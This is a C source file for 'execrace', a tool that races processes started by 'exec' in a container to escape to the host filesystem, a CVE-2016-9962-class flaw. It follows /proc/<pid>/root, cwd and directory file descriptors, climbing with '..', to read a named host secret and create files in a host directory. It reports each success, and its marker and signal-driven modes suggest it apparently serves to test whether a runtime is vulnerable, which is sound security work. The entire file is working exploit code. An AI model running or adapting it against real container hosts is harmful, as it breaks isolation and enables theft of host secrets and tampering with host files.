/*
 * execrace: races the processes `exec` starts in this container for the
 * host's filesystem (CVE-2016-9962 class), built static and copied into the
 * container. Needs CAP_SYS_PTRACE to follow /proc/<pid>/{root,cwd,fd} of a
 * process it does not own.
 *
 *   execrace MARKER SECRET DROP [armed]
 *
 * MARKER and SECRET are absolute host paths absent from the container's
 * rootfs; DROP is a host directory. For each new pid of its pid namespace,
 * while that pid lives, it tries MARKER and SECRET through the process's
 * root, its cwd (by their last component: the cwd `exec` was called from)
 * and each of its fds (climbing with ".." from a directory fd), and tries to
 * create a file in DROP through its root. It prints one line per success:
 *   REACHED <how> <pid>      SECRET <content>      WROTE <path>
 * "saw <pid>" for each new pid, "ready" once it watches and "scanned <n>"
 * (probes made) when it gets SIGTERM. With "armed" it prints "waiting" and
 * starts watching only at SIGUSR1, from the pids above the highest then
 * living (what existed before, e.g. a neighbour's own creation, is left out).
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static const char *marker, *secret, *drop;
static const char *marker_base, *secret_base;
static char climb[256];

static volatile sig_atomic_t armed;

static void on_term(int sig) { (void)sig; stop = 1; }
static void on_usr1(int sig) { (void)sig; armed = 1; }

/* The highest pid living in this pid namespace. */
static int highest_pid(void) {
    int top = 0;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid > top)
            top = pid;
    }
    if (d)
        closedir(d);
    return top;
}

static const char *base(const char *p) {
    const char *s = strrchr(p, '/');
    return s ? s + 1 : p;
}

/* Reads the secret through `prefix` (a path that may reach the host). */
static void try_prefix(const char *how, int pid, const char *prefix, int by_base) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", prefix, by_base ? marker_base : marker);
    if (access(path, F_OK) != 0)
        return;
    printf("REACHED %s %d\n", how, pid);
    snprintf(path, sizeof path, "%s/%s", prefix, by_base ? secret_base : secret);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        char buf[256];
        ssize_t n = read(fd, buf, sizeof buf - 1);
        if (n > 0) {
            buf[n] = 0;
            buf[strcspn(buf, "\n")] = 0;
            printf("SECRET %s\n", buf);
        }
        close(fd);
    }
    if (!by_base) {
        snprintf(path, sizeof path, "%s/%s/from-%s-%d", prefix, drop, how, pid);
        fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0644);
        if (fd >= 0) {
            printf("WROTE %s\n", path);
            close(fd);
        }
    }
    fflush(stdout);
}

static void probe(int pid) {
    char prefix[512];
    snprintf(prefix, sizeof prefix, "/proc/%d/root", pid);
    try_prefix("root", pid, prefix, 0);
    snprintf(prefix, sizeof prefix, "/proc/%d/cwd", pid);
    try_prefix("cwd", pid, prefix, 1);
    snprintf(prefix, sizeof prefix, "/proc/%d/fd", pid);
    DIR *d = opendir(prefix);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        snprintf(prefix, sizeof prefix, "/proc/%d/fd/%s/%s", pid, e->d_name, climb);
        try_prefix("fd", pid, prefix, 0);
    }
    closedir(d);
}

int main(int argc, char **argv) {
    int wait_arm = argc == 5 && strcmp(argv[4], "armed") == 0;
    if (argc != 4 && !wait_arm) {
        fprintf(stderr, "usage: execrace MARKER SECRET DROP [armed]\n");
        return 2;
    }
    marker = argv[1], secret = argv[2], drop = argv[3];
    marker_base = base(marker), secret_base = base(secret);
    for (int i = 0; i < 16; i++)
        strcat(climb, "../");
    signal(SIGTERM, on_term);
    signal(SIGUSR1, on_usr1);
    /* New pids are allocated upwards from ours: watch the lowest one not
     * known gone and a few above it, as long as each lives. */
    int next = getpid() + 1, seen = 0;
    long scanned = 0;
    if (wait_arm) {
        printf("waiting\n");
        fflush(stdout);
        while (!armed && !stop)
            usleep(1000);
        next = highest_pid() + 1;
        seen = next - 1;
    }
    printf("ready\n");
    fflush(stdout);
    while (!stop) {
        for (int pid = next; pid < next + 8; pid++) {
            char dir[64];
            snprintf(dir, sizeof dir, "/proc/%d", pid);
            if (access(dir, F_OK) != 0)
                continue;
            if (pid > seen) {
                seen = pid;
                printf("saw %d\n", pid);
                fflush(stdout);
            }
            probe(pid);
            scanned++;
        }
        char dir[64];
        snprintf(dir, sizeof dir, "/proc/%d", next);
        if (seen >= next && access(dir, F_OK) != 0)
            next++;
    }
    printf("scanned %ld\n", scanned);
    return 0;
}
